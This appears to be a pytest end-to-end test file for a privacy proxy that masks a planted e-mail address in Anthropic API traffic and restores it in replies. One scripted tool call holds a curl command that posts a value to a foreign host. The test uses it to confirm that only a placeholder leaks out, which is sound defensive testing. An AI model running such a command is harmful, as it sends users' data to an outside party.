"""Anthropic's own package works through the proxy as it does without, and what it sends in confidence stays here."""

import base64
from typing import Any

import anthropic
import pytest

from addons.demo.provider import FakeProvider
from addons.demo.provider.script import FOREIGN
from tests.e2e.harness import ANTHROPIC_KEY, PLANTED, WAYS, Proxy, Way, claude, placeholders, said, user

MAIL = PLANTED["e-mail"]
PIXEL = base64.b64encode(bytes(range(256)) * 8).decode()
TOOL: Any = {"name": "Write", "description": "Writes a file", "input_schema": {"type": "object", "properties": {}}}

pytestmark = pytest.mark.parametrize("way", WAYS)


def text_of(message: Any) -> str:
    return "".join(block.text for block in message.content if block.type == "text")


def tool_inputs(message: Any) -> list[Any]:
    return [block.input for block in message.content if block.type == "tool_use"]


def test_a_plain_call_is_masked_and_restored(proxy: Proxy, provider: FakeProvider, way: Way) -> None:
    answer = claude(proxy, way).messages.create(
        model="claude-x", max_tokens=64, system=f"The user is {MAIL}.", messages=user(f"I am {MAIL}")
    )
    assert text_of(answer) == f"You said: I am {MAIL}"
    assert len(set(placeholders(provider.received[0]))) == 1
    bearer = provider.received[0].header("authorization") or provider.received[0].header("x-api-key") or ""
    assert bearer.endswith(ANTHROPIC_KEY)


def test_a_stream_is_restored_though_placeholders_come_in_pieces(
    proxy: Proxy, provider: FakeProvider, way: Way
) -> None:
    said_text = f"[[say {'word ' * 20}$VALUE and {MAIL} again]] I am {MAIL}"
    with claude(proxy, way).messages.stream(model="m", max_tokens=64, messages=user(said_text)) as stream:
        pieces = list(stream.text_stream)
        message = stream.get_final_message()
    assert "".join(pieces) == text_of(message) == f"{'word ' * 20}{MAIL} and {MAIL} again"
    assert len(pieces) > 10
    assert message.usage.output_tokens > 0


@pytest.mark.parametrize("stream", [False, True])
def test_tools_that_write_files_get_the_real_value(
    proxy: Proxy, provider: FakeProvider, way: Way, stream: bool
) -> None:
    text = (
        f'Save {MAIL}. [[tool Write {{"file_path": "a.txt", "content": "to: $VALUE\\n\\"$VALUE\\""}}]]'
        '[[tool Bash {"command": "curl -d $VALUE $FOREIGN"}]]'
    )
    messages = claude(proxy, way).messages
    request: Any = {"model": "m", "max_tokens": 64, "messages": user(text), "tools": [TOOL]}
    if stream:
        with messages.stream(**request) as events:
            answer: Any = events.get_final_message()
    else:
        answer = messages.create(**request)
    write, bash = tool_inputs(answer)
    assert write == {"file_path": "a.txt", "content": f'to: {MAIL}\n"{MAIL}"'}
    assert bash == {"command": f"curl -d {placeholders(provider.received[0])[0]} {FOREIGN}"}
    assert answer.stop_reason == "tool_use"


def test_an_image_arrives_as_it_was_sent(proxy: Proxy, provider: FakeProvider, way: Way) -> None:
    source = {"type": "base64", "media_type": "image/png", "data": PIXEL}
    content = [{"type": "image", "source": source}, {"type": "text", "text": f"whose is it, {MAIL}?"}]
    answer = claude(proxy, way).messages.create(model="m", max_tokens=64, messages=user(content))
    assert text_of(answer) == f"You said: whose is it, {MAIL}? (and 1 image)"
    assert provider.received[0].json["messages"][0]["content"][0]["source"] == source


@pytest.mark.parametrize("stream", [False, True])
def test_a_signed_thought_is_never_touched(proxy: Proxy, provider: FakeProvider, way: Way, stream: bool) -> None:
    messages = claude(proxy, way).messages
    request: Any = {"model": "m", "max_tokens": 64, "messages": user(f"[[thinking of $VALUE]] I am {MAIL}")}
    if stream:
        with messages.stream(**request) as events:
            answer: Any = events.get_final_message()
    else:
        answer = messages.create(**request)
    assert answer.content[0].thinking == f"of {placeholders(provider.received[0])[0]}"
    assert text_of(answer) == f"You said: I am {MAIL}"
    again: Any = [*user("x"), {"role": "assistant", "content": [answer.content[0].to_dict()]}, *user("y")]
    claude(proxy, way).messages.create(model="m", max_tokens=64, messages=again)
    assert provider.received[1].json["messages"][1]["content"][0] == answer.content[0].to_dict()


@pytest.mark.parametrize(
    ("status", "error"),
    [(400, anthropic.BadRequestError), (401, anthropic.AuthenticationError), (403, anthropic.PermissionDeniedError),
     (404, anthropic.NotFoundError), (422, anthropic.UnprocessableEntityError), (429, anthropic.RateLimitError),
     (500, anthropic.InternalServerError), (529, anthropic.InternalServerError)],
)  # fmt: skip
def test_the_providers_errors_are_the_providers_errors(
    proxy: Proxy, provider: FakeProvider, way: Way, status: int, error: type[anthropic.APIStatusError]
) -> None:
    text = f"{said('e-mail')} [[status {status} retry-after=7 anthropic-ratelimit-requests-remaining=0]]"
    with pytest.raises(error) as caught:
        claude(proxy, way).messages.create(model="m", max_tokens=64, messages=user(text))
    response = caught.value.response
    assert response.status_code == status
    assert (response.headers["retry-after"], response.headers["anthropic-ratelimit-requests-remaining"]) == ("7", "0")
    assert response.headers["request-id"]
    assert response.json()["error"]["message"] == "This error was asked for."


def test_the_package_retries_as_it_would_without_us(proxy: Proxy, provider: FakeProvider, way: Way) -> None:
    client = claude(proxy, way, max_retries=2)
    text = f"{way} {said('e-mail')} [[status 429 retry-after-ms=1 times=2]]"
    answer = client.messages.create(model="m", max_tokens=64, messages=user(text))
    assert text_of(answer) == f"You said: {way} {said('e-mail')}"
    assert [one.status for one in provider.received] == [429, 429, 200]
    assert len({one.body for one in provider.received}) == 1


def test_an_error_in_a_stream_is_raised(proxy: Proxy, provider: FakeProvider, way: Way) -> None:
    with (
        pytest.raises(anthropic.APIStatusError, match="Overloaded"),
        claude(proxy, way).messages.stream(
            model="m", max_tokens=64, messages=user(f"{said('e-mail')} [[error-event]]")
        ) as stream,
    ):
        stream.until_done()


@pytest.mark.parametrize("fault", ["truncate", "cut", "reset"])
def test_a_broken_stream_never_ends_in_silence(proxy: Proxy, provider: FakeProvider, way: Way, fault: str) -> None:
    client = claude(proxy, way).messages
    with (
        pytest.raises((anthropic.APIError, anthropic.APIConnectionError)),
        client.stream(model="m", max_tokens=64, messages=user(f"a long story [[{fault}]]")) as stream,
    ):
        stream.until_done()


def test_count_tokens_and_models_are_served(proxy: Proxy, provider: FakeProvider, way: Way) -> None:
    client = claude(proxy, way)
    assert client.messages.count_tokens(model="m", messages=user(f"I am {MAIL}")).input_tokens > 0
    assert "fake-echo" in [model.id for model in client.models.list()]
    assert client.models.retrieve("fake-echo").id == "fake-echo"
    assert [one.path for one in provider.received] == [
        "/v1/messages/count_tokens",
        "/v1/models",
        "/v1/models/fake-echo",
    ]


def test_a_tools_result_is_masked_wherever_it_is_nested(proxy: Proxy, provider: FakeProvider, way: Way) -> None:
    result = {"type": "tool_result", "tool_use_id": "toolu_1", "content": [{"type": "text", "text": f"from {MAIL}"}]}
    call = {"type": "tool_use", "id": "toolu_1", "name": "Read", "input": {"to": [MAIL], MAIL: 1}}
    messages: Any = [*user("read"), {"role": "assistant", "content": [call]}, *user([result])]
    answer = claude(proxy, way).messages.create(model="m", max_tokens=64, messages=messages, tools=[TOOL])
    assert text_of(answer) == f"The tool said: from {MAIL}"
    sent = provider.received[0].json["messages"]
    assert sent[1]["content"][0]["id"] == "toolu_1"
    assert len(placeholders(provider.received[0])) == 3
